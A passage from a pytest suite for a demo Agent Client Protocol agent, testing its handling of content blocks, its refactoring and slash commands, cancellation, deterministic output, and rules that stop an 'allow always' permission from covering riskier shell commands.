        "What is in here?",
        {
            "type": "resource_link",
            "uri": "file:///data/report.csv",
            "name": "report.csv",
            "mimeType": "text/csv",
        },
        {
            "type": "resource",
            "resource": {"uri": "file:///data/x.txt", "text": "héllo", "mimeType": "text/plain"},
        },
        {"type": "image", "data": png, "mimeType": "image/png"},
    ]
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, *blocks)
    reply = texts(turn)
    assert stop == "end_turn"
    assert "4 content blocks" in reply
    assert "`text`, 16 characters" in reply
    assert "uri `file:///data/report.csv`, name `report.csv`, MIME type text/csv" in reply
    assert (
        "`resource` (embedded text contents): uri `file:///data/x.txt`, 6 bytes, MIME type text/plain"
        in reply
    )
    assert "`image`, image/png, 12 bytes" in reply
    assert "/read PATH" in reply and "not an AI" in reply
    [info] = of_kind(turn, "session_info_update")
    assert info["title"] == "What is in here?"
    assert of_kind(turn, "usage_update")


async def test_refactor_prompt_edits_the_named_file(tmp_path: Path) -> None:
    target = tmp_path / "utils.py"
    target.write_text(SAMPLE)
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "please refactor utils.py")
        again, turn2 = await client.prompt(session, "refactor utils.py")
    assert stop == again == "end_turn"
    assert target.read_text() == REFACTORED
    assert "A mechanical refactoring, found with Python's `ast`" in texts(turn)
    assert "I found nothing to refactor in `utils.py`" in texts(turn2)


async def test_refactor_of_an_embedded_cell_proposes_without_writing(tmp_path: Path) -> None:
    cell = "def evens(xs):\n    out = []\n    for x in xs:\n        if x % 2 == 0:\n            out.append(x)\n    return out\n"
    blocks: list[str | dict[str, Any]] = [
        "refactor this",
        {
            "type": "resource",
            "resource": {"uri": "cell://notebook/3", "text": cell, "mimeType": "text/x-python"},
        },
    ]
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, *blocks)
        fenced, turn2 = await client.prompt(session, f"clean up:\n```python\n{cell}```")
    reply = texts(turn)
    assert stop == fenced == "end_turn"
    assert not of_kind(turn, "tool_call") and not client.requests_from_agent("fs/write_text_file")
    assert "    return [x for x in xs if x % 2 == 0]\n" in reply and "```diff" in reply
    assert "A mechanical refactoring" in reply and "Any" not in reply and "TODO" not in reply
    assert "    return [x for x in xs if x % 2 == 0]\n" in texts(turn2)


async def test_more_commands_and_usage(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        results = {cmd: await client.prompt(session, cmd) for cmd in (
            "/help", "/usage", "/fail", "/mode code", "/title My demo", "/stop max_tokens", "/nope",
        )}  # fmt: skip
        with pytest.raises(RpcError) as failed:
            await client.prompt(session, "/error")
        listed = await client.request("session/list", {})
    assert all(
        stop == "end_turn" for cmd, (stop, _) in results.items() if cmd != "/stop max_tokens"
    )
    assert results["/stop max_tokens"][0] == "max_tokens"
    assert "| `/read PATH [LINE [LIMIT]]` |" in texts(results["/help"][1])
    fail_updates = of_kind(results["/fail"][1], "tool_call_update")
    assert fail_updates[-1]["status"] == "failed"
    mode_turn = results["/mode code"][1]
    assert of_kind(mode_turn, "current_mode_update") == [
        {"sessionUpdate": "current_mode_update", "currentModeId": "code"}
    ]
    assert of_kind(results["/title My demo"][1], "session_info_update")[0]["title"] == "My demo"
    assert listed["sessions"][0]["title"] == "My demo"
    assert "not one of my commands" in texts(results["/nope"][1])
    usages = [of_kind(turn, "usage_update")[-1] for _, turn in results.values()]
    assert all(u["size"] == 128_000 and "cost" not in u for u in usages)
    assert [u["used"] for u in usages] == sorted(u["used"] for u in usages)  # it only grows
    assert failed.value.code == -32603


async def test_unknown_update_and_content_types(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/unknown")
    assert stop == "end_turn"
    kinds = [u["sessionUpdate"] for u in turn]
    assert OFF_SCHEMA_UPDATE in kinds
    assert any(u.get("content", {}).get("type") == OFF_SCHEMA_BLOCK for u in turn)


async def test_missing_capabilities_are_said_honestly(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a\n")
    async with demo_client(tmp_path, caps={}) as client:
        session = await client.new_session()
        read_stop, read = await client.prompt(session, "/read a.txt")
        run_stop, run = await client.prompt(session, "/run echo hi")
    assert read_stop == run_stop == "end_turn"
    assert "fs.readTextFile" in texts(read) and "terminal" in texts(run)
    assert not of_kind(read + run, "tool_call")
    assert not client.requests_from_agent("fs/read_text_file")


async def test_same_prompts_give_the_same_messages(tmp_path: Path) -> None:
    original = SAMPLE

    async def transcript() -> list[dict[str, Any]]:
        (tmp_path / "utils.py").write_text(original)
        async with demo_client(tmp_path) as client:
            session = await client.new_session()
            for prompt in ("/read utils.py", "/edit utils.py", "/run echo same", "/plan", "/think",
                           "tell me something", "/image", "/long 50"):  # fmt: skip
                await client.prompt(session, prompt)
            messages = client.received()
        return json.loads(json.dumps(messages).replace(str(tmp_path), "ROOT"), object_hook=_no_time)

    first, second = await transcript(), await transcript()
    assert first == second
    assert len(first) > 100


def _no_time(value: dict[str, Any]) -> dict[str, Any]:
    value.pop("updatedAt", None)
    return value


async def test_exits_when_stdin_closes(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        await client.new_session()
        agent = client.agent
        await agent.stdin.aclose()
        with anyio.fail_after(5):
            code = await agent.process.wait()
    assert code == 0


def test_a_piped_script_is_answered_before_the_agent_exits(tmp_path: Path) -> None:
    """stdin ends right after the requests (``printf ... | python -m ...``): the agent still
    answers what it received, then exits 0."""
    lines = [
        {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": 1}},
        {"jsonrpc": "2.0", "id": 1, "method": "session/new", "params": {"cwd": str(tmp_path), "mcpServers": []}},
    ]  # fmt: skip
    script = "".join(json.dumps(line) + "\n" for line in lines).encode()
    done = subprocess.run(DEMO, input=script, capture_output=True, timeout=30, check=False)
    messages = [json.loads(line) for line in done.stdout.splitlines()]
    assert done.returncode == 0
    assert {m.get("id") for m in messages if "result" in m} == {0, 1}
    assert messages[-1]["params"]["update"]["sessionUpdate"] == "available_commands_update"


async def test_read_edge_cases(tmp_path: Path) -> None:
    (tmp_path / "short.txt").write_text("a\nb\nc")  # no newline at the end
    (tmp_path / "empty.txt").write_text("")
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        _, beyond = await client.prompt(session, "/read short.txt 10")
        _, empty = await client.prompt(session, "/read empty.txt")
        _, whole = await client.prompt(session, "/read short.txt")
        _, usage = await client.prompt(session, "/read short.txt x")
    assert "has no line 10" in json.dumps(of_kind(beyond, "tool_call_update")[-1])
    assert "That window reached the end of the file." in texts(beyond)
    assert "is empty" in json.dumps(of_kind(empty, "tool_call_update")[-1])
    done = of_kind(whole, "tool_call_update")[-1]
    assert done["rawOutput"] == {"lines": 3, "moreFollow": False}
    assert "Lines 1–3 of `short.txt` (the end; 3 lines)" in json.dumps(done, ensure_ascii=False)
    assert "Usage: `/read PATH [LINE [LIMIT]]" in texts(usage) and not of_kind(usage, "tool_call")


async def test_cancel_stops_a_long_stream(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        # Counted as chunks, as asserted: the session's other updates (its commands) may
        # arrive during the turn too.
        stop, turn = await client.cancel_once(
            session,
            "/long 100000",
            lambda: len(of_kind(client.updates_since(0), "agent_message_chunk")) >= 200,
        )
    assert stop == "cancelled"
    assert 200 <= len(of_kind(turn, "agent_message_chunk")) < 100_000


async def test_write_with_a_quoted_path_and_several_lines(tmp_path: Path) -> None:
    (tmp_path / "my file.txt").write_text("old\n")
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, '/write "my file.txt" first\nsecond')
    assert stop == "end_turn"
    assert (tmp_path / "my file.txt").read_text() == "first\nsecond\n"
    [call] = of_kind(turn, "tool_call")
    assert call["content"][0]["oldText"] == "old\n"
    assert "replaced the 1 line" in texts(turn)


async def test_an_unreadable_state_file_is_ignored_then_replaced(tmp_path: Path) -> None:
    state = tmp_path / "state.json"
    state.write_text("{not json")
    async with demo_client(tmp_path, "--state-file", str(state)) as client:
        assert await client.request("session/list", {}) == {"sessions": []}
        await client.new_session()
    assert json.loads(state.read_text())["sessions"][0]["id"] == "demo-session-1"


async def test_a_prompt_sent_at_once_comes_after_the_sessions_command_list(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The command list follows the answer that opened the session (in that request's task);
    # a prompt sent the moment that answer arrives runs in another task. Slowed here, the
    # list still comes first: the demo agent's messages are the same from run to run.
    from acp_notebook.agents.demo.server import DemoAgent, DemoOptions
    from acp_notebook.protocol import models as m
    from acp_notebook.protocol.memory import memory_pipe

    update = DemoAgent._update

    async def slowed(self: DemoAgent, session_id: str, sent: Any) -> None:
        if isinstance(sent, m.AvailableCommandsUpdate):
            await anyio.sleep(0.3)
        await update(self, session_id, sent)

    monkeypatch.setattr(DemoAgent, "_update", slowed)
    client_in, agent_out = memory_pipe()
    agent_in, client_out = memory_pipe()
    agent = DemoAgent(agent_in, agent_out, DemoOptions(state_file=tmp_path / "state.json"))
    client = Peer(client_in, client_out, name="test-client")
    kinds: list[str] = []
    client.handle_notification(
        "session/update", lambda params: kinds.append(params["update"]["sessionUpdate"])
    )
    async with anyio.create_task_group() as tasks:
        tasks.start_soon(agent.run)
        tasks.start_soon(client.run)
        with anyio.fail_after(30):
            await client.request("initialize", {"protocolVersion": 1, "clientCapabilities": {}})
            opened = await client.request("session/new", {"cwd": str(tmp_path), "mcpServers": []})
            prompt = [{"type": "text", "text": "/help"}]
            await client.request(
                "session/prompt", {"sessionId": opened["sessionId"], "prompt": prompt}
            )
        tasks.cancel_scope.cancel()
    assert kinds[:2] == ["available_commands_update", "session_info_update"]


async def test_allow_always_never_covers_a_riskier_command_and_says_only_what_is_true(
    tmp_path: Path,
) -> None:
    """Choosing "Allow always" on `/run echo hello` let a later command rated 🔸 run unasked, and
    the reply explained it with "the session is in Code mode" while the session was in Ask."""
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        client.policy = choose("allow-always")
        _, first = await client.prompt(session, "/run echo hello")
        _, second = await client.prompt(session, "/run echo again")  # as risky: remembered
        await client.prompt(session, "/run kill -0 $$")  # riskier (stops processes): asks
    assert [r["toolCall"]["title"] for r in client.permission_requests] == [
        "Run echo hello",
        "Run kill -0 $$",
    ]
    said = texts(first) + texts(second)
    assert "mode" not in said.lower()
    assert "as risky as this or less" in texts(first)
